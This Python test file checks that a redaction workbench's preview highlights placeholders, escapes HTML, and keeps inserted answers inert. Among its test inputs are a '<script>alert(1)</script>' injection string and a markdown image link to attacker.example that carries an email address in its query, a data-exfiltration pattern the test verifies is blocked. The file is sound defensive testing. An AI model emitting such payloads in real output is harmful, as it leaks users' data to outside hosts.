"""The preview's HTML: placeholders found at the right places, values never rendered."""

from __future__ import annotations

from dataclasses import dataclass

from workbench.ui._render import PreviewMessage, highlighted, mark_placeholders, markdown_html, preview_html


@dataclass
class E:
    type: str
    start: int
    end: int
    action: str
    placeholder: str | None


@dataclass
class Red:
    text: str
    entities: list


def test_marks_follow_the_placeholders_in_the_sent_text() -> None:
    original = "Call Li Wei at +86 138 0013 8000, not Bob."
    red = Red("Call <PERSON_1> at <PHONE_NUMBER_1>, not Bob.",
              [E("PERSON", 5, 11, "pseudonymise", "<PERSON_1>"),
               E("PHONE_NUMBER", 15, 32, "pseudonymise", "<PHONE_NUMBER_1>"),
               E("PERSON", 38, 41, "keep", None)])
    message = mark_placeholders(original, red)
    assert [message.sent[s:e] for s, e, _, _ in message.marks] == ["<PERSON_1>", "<PHONE_NUMBER_1>"]
    html = highlighted(message)
    assert html.count("<mark") == 2 and "Li Wei" not in html and "Bob." in html


def test_masked_values_are_marked_differently() -> None:
    red = Red("key <SECRET>", [E("SECRET", 4, 20, "mask", "<SECRET>")])
    html = highlighted(mark_placeholders("key sk-abcdefghijklmnop", red))
    assert 'class="wb-ph wb-mask"' in html and "masked" in html


def test_html_in_messages_and_answers_is_escaped() -> None:
    message = PreviewMessage(role="user", sent="<script>alert(1)</script>", new=True)
    page = preview_html([message], redaction_on=True, model="m", corpus=None, k=5)
    assert "<script>" not in page and "&lt;script&gt;" in page
    assert "<script>" not in markdown_html("**bold** <script>alert(1)</script>")
    assert "<strong>bold</strong>" in markdown_html("**bold**")


def test_inserted_answers_keep_placeholders_visible_in_markdown() -> None:
    from workbench.pipeline import markdown_source

    assert markdown_source("Hi <PERSON_2> at <EMAIL_ADDRESS_") == "Hi \\<PERSON_2> at \\<EMAIL_ADDRESS_"
    # raw HTML in an answer is shown as text, never rendered (the one renderer: workbench.render)
    assert markdown_source("keep <b>bold</b>") == "keep \\<b\\>bold\\<\\/b\\>"
    inserted = markdown_source("![x](https://attacker.example/?e=li.wei@example.com)")
    assert "![" not in inserted and "image not loaded" in inserted
